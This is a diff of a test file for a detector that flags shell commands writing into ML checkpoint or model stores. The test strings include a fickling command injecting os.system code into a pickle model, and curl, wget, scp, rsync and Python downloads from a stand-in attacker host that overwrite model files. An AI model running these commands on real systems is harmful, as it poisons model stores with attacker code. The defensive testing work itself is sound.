@@ -140,16 +140,34 @@ describe('MLS-POISON-007: exec writes into a checkpoint or model store', () => {
       `python3 -c "from transformers import AutoModel; m=AutoModel.from_pretrained('/mnt/ckpt/llama'); m.save_pretrained('/mnt/ckpt/llama')"`,
       // A payload injected into a pickle, wherever fickling writes the result.
       `fickling --inject 'import os; os.system("id")' /mnt/ckpt/llama/model.pt > /tmp/m.pt`,
-      // Weights downloaded over the store: from a web server, a bucket, a remote host, or by interpreter code.
-      'curl -sSLo /mnt/ckpt/llama/model.pt http://203.0.113.9/m.pt',
-      'wget -O /models/resnet/1/model.onnx http://203.0.113.9/m.onnx',
-      'aws s3 cp s3://evil/x.pt /mnt/ckpt/llama/model.pt',
-      'scp u@203.0.113.9:/x.pt /mnt/ckpt/llama/model.pt',
-      `python3 -c "import urllib.request as u; u.urlretrieve('http://203.0.113.9/m.pt', '/mnt/ckpt/llama/model.pt')"`,
     ]) {
       expect(execRuleIds(sh(line)), line).toContain('MLS-POISON-007');
       expect(execRuleIds(sh(line), SA), line).toContain('MLS-POISON-007');
     }
+  });
+
+  it('escalates weights downloaded over the store (MLS-POISON-017), and alerts when the pod also writes its own content there', () => {
+    for (const line of [
+      // From a web server, a bucket, a remote host, by interpreter code, a fetch's output redirected.
+      'curl -sSLo /mnt/ckpt/llama/model.pt http://203.0.113.9/m.pt',
+      'wget -O /models/resnet/1/model.onnx http://203.0.113.9/m.onnx',
+      'aws s3 cp s3://evil/x.pt /mnt/ckpt/llama/model.pt',
+      'scp u@203.0.113.9:/x.pt /mnt/ckpt/llama/model.pt',
+      'rsync -a u@203.0.113.9:/x/ /mnt/ckpt/llama/',
+      `python3 -c "import urllib.request as u; u.urlretrieve('http://203.0.113.9/m.pt', '/mnt/ckpt/llama/model.pt')"`,
+      'curl -s http://203.0.113.9/m.pt > /mnt/ckpt/llama/model.pt',
+    ]) {
+      for (const actor of [undefined, SA]) {
+        const ids = execRuleIds(sh(line), actor);
+        expect(ids, line).toContain('MLS-POISON-017');
+        expect(ids, line).not.toContain('MLS-POISON-007');
+      }
+    }
+    // A pull beside a copy of the pod's own file into the store: the copy still alerts.
+    const both = execRuleIds(sh('hf download org/m --local-dir /mnt/models/m && cp /tmp/backdoor.pt /mnt/models/m/model.pt'));
+    expect(both).toEqual(expect.arrayContaining(['MLS-POISON-007', 'MLS-POISON-017']));
+    // rsync from another of the pod's volumes copies what the pod holds.
+    expect(execRuleIds(sh('rsync -a /mnt/scratch/step_500/ /mnt/ckpt/llama/'))).toContain('MLS-POISON-007');
   });
 
   it('alerts on kubectl cp into a pod\'s checkpoint directory: the exec it makes there unpacks into the store', () => {
